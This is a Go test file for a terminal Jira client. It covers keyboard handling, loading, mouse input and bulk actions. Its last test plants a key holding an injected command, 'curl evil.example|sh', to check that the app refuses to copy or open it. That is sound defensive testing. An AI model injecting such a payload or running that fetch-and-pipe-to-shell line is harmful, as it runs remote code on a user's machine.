package tui

import (
	"reflect"
	"strings"

	"github.com/charmbracelet/x/ansi"
	"testing"
	"time"

	"charm.land/bubbles/v2/spinner"
	tea "charm.land/bubbletea/v2"

	"github.com/jiffy-tui/jiffy/jiraclient/fakejira"
	"github.com/jiffy-tui/jiffy/tui/common"
	"github.com/jiffy-tui/jiffy/tui/list"
)

// leaves flattens a command into the commands tea.Batch and tea.Sequence
// hold, running only those two wrappers (they return at once).
func leaves(cmd tea.Cmd) []tea.Cmd {
	if cmd == nil {
		return nil
	}
	msg := cmd()
	switch m := msg.(type) {
	case tea.BatchMsg:
		var out []tea.Cmd
		for _, c := range m {
			out = append(out, leaves(c)...)
		}
		return out
	}
	if cs, ok := sequence(msg); ok {
		var out []tea.Cmd
		for _, c := range cs {
			out = append(out, leaves(c)...)
		}
		return out
	}
	return []tea.Cmd{func() tea.Msg { return msg }}
}

// await runs every leaf of cmd at once and returns the first message for
// which want holds, or nil once every leaf has answered without one.
func await(t *testing.T, cmd tea.Cmd, want func(tea.Msg) bool) tea.Msg {
	t.Helper()
	ls := leaves(cmd)
	ch := make(chan tea.Msg, len(ls))
	for _, c := range ls {
		go func() { ch <- c() }()
	}
	for range ls {
		if msg := <-ch; msg != nil && want(msg) {
			return msg
		}
	}
	return nil
}

func isTick(msg tea.Msg) bool { _, ok := msg.(spinner.TickMsg); return ok }

// TestLoadSchedulesSpinnerTicks: a load shows a task in the status bar, and
// its spinner turns: the first update schedules a tick, and each tick the
// next one, while the load runs.
func TestLoadSchedulesSpinnerTicks(t *testing.T) {
	site := startFake(t, fakejira.FlavorCloud)
	m := New(Options{Client: site.client, JQL: allIssues, Now: site.srv.Now})
	nm, cmd := m.Update(tea.WindowSizeMsg{Width: 80, Height: 12})
	m = nm.(Model)
	if got := m.status.Tasks(); len(got) != 1 || got[0] != "loading issues" {
		t.Fatalf("tasks %q", got)
	}
	tick := await(t, cmd, isTick)
	if tick == nil {
		t.Fatal("the load started a status-bar task but scheduled no spinner tick")
	}
	before := screen(m)
	nm, cmd = m.Update(tick)
	m = nm.(Model)
	if screen(m) == before {
		t.Fatal("a tick did not move the spinner")
	}
	if await(t, cmd, isTick) == nil {
		t.Fatal("a tick while loading scheduled no next tick")
	}
}

// typeEverything types every printable ASCII character but the digits
// into an empty input (each then erased), then the whole set at once,
// space first, so the digits meet a non-empty input (on an empty one a
// number picks an entry, by design).
func typeEverything() []tea.Msg {
	var out []tea.Msg
	for _, msg := range printable() {
		if k := msg.(tea.KeyPressMsg); k.Code >= '0' && k.Code <= '9' {
			continue
		}
		out = append(out, msg, tea.KeyPressMsg{Code: tea.KeyBackspace})
	}
	return append(out, printable()...)
}

// printable is every printable ASCII character, space first.
func printable() []tea.Msg {
	var out []tea.Msg
	for r := rune(' '); r <= '~'; r++ {
		if r == ' ' {
			out = append(out, tea.KeyPressMsg{Code: tea.KeySpace, Text: " "})
			continue
		}
		out = append(out, tea.KeyPressMsg{Code: r, Text: string(r)})
	}
	return out
}

// writes are the requests that change something in Jira: every method
// but GET, and POST but for the searches (Cloud searches by POST too).
func writes(reqs []fakejira.Request) []string {
	var out []string
	for _, r := range reqs {
		search := strings.HasSuffix(r.Path, "/search") || strings.HasSuffix(r.Path, "/search/jql") || strings.HasSuffix(r.Path, "/approximate-count")
		if r.Method == "GET" || (r.Method == "POST" && search) {
			continue
		}
		out = append(out, r.Method+" "+r.Path)
	}
	return out
}

// TestTextFieldsOwnTheKeyboard opens every view with a text input, types
// every printable ASCII character into it, and checks that no write went
// to Jira and no action ran: the same overlay is open, nothing quit, help
// stayed shut, and the text is in the input.
func TestTextFieldsOwnTheKeyboard(t *testing.T) {
	site := startFake(t, fakejira.FlavorCloud)
	tests := []struct {
		name   string
		open   []string // keys from the list, after selecting sel rows
		sel    int
		prompt bool // a list input rather than an overlay
	}{
		{name: "transition", open: []string{"t"}},
		{name: "assign", open: []string{"a"}},
		{name: "comment", open: []string{"c"}},
		{name: "edit", open: []string{"e"}},
		{name: "labels", open: []string{"l"}},
		{name: "create", open: []string{"C"}},
		{name: "bulk transition", sel: 3, open: []string{"t"}},
		{name: "bulk assign", sel: 3, open: []string{"a"}},
		{name: "bulk labels", sel: 3, open: []string{"l"}},
		{name: "filter", open: []string{"/"}, prompt: true},
		{name: "JQL prompt", open: []string{":"}, prompt: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := newDriver(t, New(Options{Client: site.client, JQL: allIssues, Now: site.srv.Now}))
			d.m = upd(t, d.m, tea.WindowSizeMsg{Width: 160, Height: 40})
			d.run(d.m.Init())
			var open []tea.Msg
			for range tt.sel {
				open = append(open, press("space"))
			}
			for _, k := range tt.open {
				open = append(open, press(k))
			}
			d.send(open...)
			if tt.prompt != (d.m.overlay == nil) || (tt.prompt && !d.m.list.InputFocused()) {
				t.Fatalf("%v did not open a text input: overlay %T", tt.open, d.m.overlay)
			}
			if tt.name == "JQL prompt" {
				// Start from an empty prompt, as for a new query.
				d.send(tea.KeyPressMsg{Code: 'u', Mod: tea.ModCtrl})
			}
			overlay := reflect.TypeOf(d.m.overlay)
			site.srv.ResetRequests()
			d.send(typeEverything()...)
			if w := writes(site.srv.Requests()); len(w) > 0 {
				t.Fatalf("typing sent writes: %q", w)
			}
			if reflect.TypeOf(d.m.overlay) != overlay || d.m.state != stateList || d.m.helpOpen || d.quits > 0 || (tt.prompt && !d.m.list.InputFocused()) {
				t.Fatalf("typing ran an action: overlay %T (was %v), state %v, help %v, quits %d", d.m.overlay, overlay, d.m.state, d.m.helpOpen, d.quits)
			}
			// A narrow input shows the head or the tail of the text.
			if s := screen(d.m); !strings.Contains(s, "xyz{|}~") && !strings.Contains(s, "0123456789:;<=>?@ABC") {
				t.Fatalf("the typed text is not in the input:\n%s", s)
			}
		})
	}
}

// TestLoginTextOwnsTheKeyboard: on the login form ? and q are text in the
// URL field, f1 opens help, and the status bar offers f1, not ?.
func TestLoginTextOwnsTheKeyboard(t *testing.T) {
	d := newDriver(t, New(Options{Now: func() time.Time { return fixedNow }}))
	d.m = upd(t, d.m, tea.WindowSizeMsg{Width: 160, Height: 30})
	d.run(d.m.Init())
	if d.m.state != stateLogin {
		t.Fatalf("state %v", d.m.state)
	}
	d.send(typeEverything()...)
	if d.m.state != stateLogin || d.m.helpOpen || d.quits > 0 {
		t.Fatalf("typing ran an action: state %v help %v quits %d", d.m.state, d.m.helpOpen, d.quits)
	}
	s := screen(d.m)
	if !strings.Contains(s, "xyz{|}~") {
		t.Fatalf("the typed text is not in the URL field:\n%s", s)
	}
	lines := strings.Split(s, "\n")
	if bar := lines[len(lines)-1]; !strings.Contains(bar, "f1 help") || strings.Contains(bar, "? help") {
		t.Fatalf("status bar offers %q", bar)
	}
	d.send(tea.KeyPressMsg{Code: tea.KeyF1})
	if !d.m.helpOpen {
		t.Fatal("f1 did not open help on the login form")
	}
}

// fakeRoot is a root on the fake site's issues, loaded, 160x40.
func fakeRoot(t *testing.T, site fakeSite) *driver {
	t.Helper()
	d := newDriver(t, New(Options{Client: site.client, JQL: allIssues, Now: site.srv.Now}))
	d.m = upd(t, d.m, tea.WindowSizeMsg{Width: 160, Height: 40})
	d.run(d.m.Init())
	return d
}

// TestOneIssueOutcomeInStatusBar: a label change on one issue closes its
// box once Jira took it, says so in the status bar, and the next keys
// act (r refreshes, C opens the create form).
func TestOneIssueOutcomeInStatusBar(t *testing.T) {
	site := startFake(t, fakejira.FlavorCloud)
	d := fakeRoot(t, site)
	key := d.m.list.Current().Key
	d.send(press("l"))
	d.send(typed("triaged")...)
	d.send(press("enter"))
	if d.m.overlay != nil {
		t.Fatalf("the label box stayed after the change:\n%s", screen(d.m))
	}
	if _, note := d.m.status.Notice(); !strings.Contains(note, key+" labels changed") {
		t.Fatalf("status bar says %q", note)
	}
	if snap, _ := site.srv.Issue(key); !slicesContains(snap.Labels, "triaged") {
		t.Fatalf("Jira has labels %q", snap.Labels)
	}
	site.srv.ResetRequests()
	d.send(press("r"))
	if n := firstPages(t, site.srv.Requests(), fakejira.FlavorCloud); n != 1 {
		t.Fatalf("r after the change sent %d searches", n)
	}
	d.send(press("C"))
	if d.m.overlay == nil {
		t.Fatal("C after the change opened nothing")
	}
}

// TestBulkSummaryClosesOnAnyKey: bulk work leaves its summary up; any key
// closes it, and a key that means more (r) does its work too.
func TestBulkSummaryClosesOnAnyKey(t *testing.T) {
	site := startFake(t, fakejira.FlavorCloud)
	d := fakeRoot(t, site)
	d.send(press("space"), press("space"), press("space"), press("l"))
	d.send(typed("triaged")...)
	d.send(press("enter"))
	if d.m.overlay == nil || !strings.Contains(screen(d.m), "all 3 done") {
		t.Fatalf("no summary of the bulk work:\n%s", screen(d.m))
	}
	site.srv.ResetRequests()
	d.send(press("r"))
	if d.m.overlay != nil {
		t.Fatal("r left the summary open")
	}
	if n := firstPages(t, site.srv.Requests(), fakejira.FlavorCloud); n != 1 {
		t.Fatalf("r on the summary sent %d searches", n)
	}
}

func slicesContains(s []string, v string) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}

func isNotice(msg tea.Msg) bool { _, ok := msg.(common.NoticeMsg); return ok }

// TestDetailKeysAsInList: o, y and Y do in the detail what they do in the
// list: open the issue in the browser, copy its key, copy its URL.
func TestDetailKeysAsInList(t *testing.T) {
	m := ready(t, 100, 30, 5, Options{})
	key := m.list.Current().Key
	full := m.list.Current()
	m = upd(t, m, list.OpenMsg{Key: key, Issue: full})
	if m.state != stateDetail {
		t.Fatalf("state %v", m.state)
	}
	for k, want := range map[string]string{"y": "copied " + key, "Y": "copied " + m.c.Client.BrowseURL(key)} {
		_, cmd := m.Update(press(k))
		msg := await(t, cmd, isNotice)
		if msg == nil || !strings.Contains(msg.(common.NoticeMsg).Text, want) {
			t.Fatalf("%s in the detail: %v, want %q", k, msg, want)
		}
	}
	// o launches a browser: the command is there, not run here.
	if _, cmd := m.Update(press("o")); cmd == nil {
		t.Fatal("o in the detail does nothing")
	}
}

// TestGGoesToTheLastIssue: G loads what is left, with progress in the
// status bar, and lands on the query's last issue.
func TestGGoesToTheLastIssue(t *testing.T) {
	site := startFake(t, fakejira.FlavorCloud)
	d := fakeRoot(t, site)
	nm, cmd := d.m.Update(press("G"))
	d.m = nm.(Model)
	if tasks := d.m.status.Tasks(); len(tasks) != 1 || !strings.Contains(tasks[0], "loading 150 of 160 (esc stops)") {
		t.Fatalf("status bar tasks %q", tasks)
	}
	d.run(cmd)
	is := d.m.list.Issues()
	if len(is) != 160 {
		t.Fatalf("G loaded %d of 160 issues", len(is))
	}
	if cur := d.m.list.Current(); cur == nil || cur.Key != is[len(is)-1].Key {
		t.Fatalf("G landed on %v, not the last issue %s", cur, is[len(is)-1].Key)
	}
	if d.m.list.Loading() != "" || len(d.m.status.Tasks()) != 0 {
		t.Fatalf("still loading: %q", d.m.status.Tasks())
	}
}

// TestGStopsOnEsc: esc cancels G's loading (its requests' contexts): what
// was loaded before stays, nothing more arrives, and the cursor stays.
func TestGStopsOnEsc(t *testing.T) {
	site := startFake(t, fakejira.FlavorCloud)
	d := fakeRoot(t, site)
	nm, cmd := d.m.Update(press("G"))
	d.m = nm.(Model)
	nm, _ = d.m.Update(press("esc"))
	d.m = nm.(Model)
	d.run(cmd)
	if n := len(d.m.list.Issues()); n != 150 {
		t.Fatalf("after esc %d issues loaded, want the 150 loaded before G", n)
	}
	if d.m.list.Loading() != "" {
		t.Fatalf("still loading: %q", d.m.list.Loading())
	}
}

// TestNewQueryStartsAtTop: a new JQL query opens with the cursor on its
// first issue, even when the issue highlighted before is in it; a refresh
// keeps the cursor where it was.
func TestNewQueryStartsAtTop(t *testing.T) {
	site := startFake(t, fakejira.FlavorCloud)
	d := fakeRoot(t, site)
	d.send(press("j"), press("j"), press("j"), press("j"), press("j"))
	d.send(press("r"))
	if c := d.m.list.Current(); c == nil || c.Key != d.m.list.Issues()[5].Key {
		t.Fatalf("refresh moved the cursor to %v", c)
	}
	d.send(press(":"), ctrl('u'))
	d.send(typed("created >= -5001d ORDER BY key ASC")...)
	d.send(press("enter"))
	if d.m.list.JQL() != "created >= -5001d ORDER BY key ASC" {
		t.Fatalf("query %q", d.m.list.JQL())
	}
	if c := d.m.list.Current(); c == nil || c.Key != d.m.list.Issues()[0].Key {
		t.Fatalf("the new query opened on %v, not its first issue", c)
	}
}

// TestMouseClicks: a click on a row highlights it; a click on a tab shows
// that tab.
func TestMouseClicks(t *testing.T) {
	site := startFake(t, fakejira.FlavorCloud)
	d := newDriver(t, New(Options{Client: site.client, JQL: allIssues, Now: site.srv.Now,
		Queries: []Query{{Name: "All", JQL: allIssues}, {Name: "Mine", JQL: "assignee = currentUser() ORDER BY key ASC"}}}))
	d.m = upd(t, d.m, tea.WindowSizeMsg{Width: 160, Height: 40})
	d.run(d.m.Init())
	// Line 0 is the tabs, line 1 the column header, rows from line 2.
	d.send(tea.MouseClickMsg{X: 20, Y: 5, Button: tea.MouseLeft})
	if c := d.m.list.Current(); c == nil || c.Key != d.m.list.Issues()[3].Key {
		t.Fatalf("a click on the 4th row highlighted %v", c)
	}
	// A click on the tab named "Mine", wherever the bar draws it.
	first, _, _ := strings.Cut(screen(d.m), "\n")
	x := strings.Index(first, "Mine")
	if x < 0 {
		t.Fatalf("no Mine tab on the bar: %q", first)
	}
	d.send(tea.MouseClickMsg{X: ansi.StringWidth(first[:x]), Y: 0, Button: tea.MouseLeft})
	if d.m.list.Active() != 2 || d.m.list.JQL() != "assignee = currentUser() ORDER BY key ASC" {
		t.Fatalf("a click on the second tab: active %d, query %q", d.m.list.Active(), d.m.list.JQL())
	}
}

// TestRangeShowsSelected: while a V range is drawn, every row between its
// start and the cursor shows as selected.
func TestRangeShowsSelected(t *testing.T) {
	m := ready(t, 80, 24, 10, Options{})
	m = upd(t, m, press("V"), press("j"), press("j"))
	if n := strings.Count(screen(m), "●"); n != 3 || !strings.Contains(screen(m), "3 selected") {
		t.Fatalf("%d rows show as selected during a 3-row range:\n%s", n, screen(m))
	}
	m = upd(t, m, press("V"))
	if got := m.list.Selected(); len(got) != 3 {
		t.Fatalf("the range selected %q", got)
	}
}

// TestDetailRefusesForeignKey: the detail of an issue whose key is not a
// Jira key never copies or opens it ("HOS-2\ncurl evil.example|sh" pasted
// into a shell would run), and says why.
func TestDetailRefusesForeignKey(t *testing.T) {
	m := ready(t, 100, 30, 5, Options{})
	bad := "HOS-2\ncurl evil.example|sh"
	is := *m.list.Current()
	is.Key = bad
	m = upd(t, m, list.OpenMsg{Key: bad, Issue: &is})
	if m.state != stateDetail {
		t.Fatalf("state %v", m.state)
	}
	for _, k := range []string{"y", "Y", "o"} {
		_, cmd := m.Update(press(k))
		msg := await(t, cmd, isNotice)
		if msg == nil || !strings.Contains(msg.(common.NoticeMsg).Text, "not a valid key") {
			t.Fatalf("%s on %q: %v", k, bad, msg)
		}
	}
}
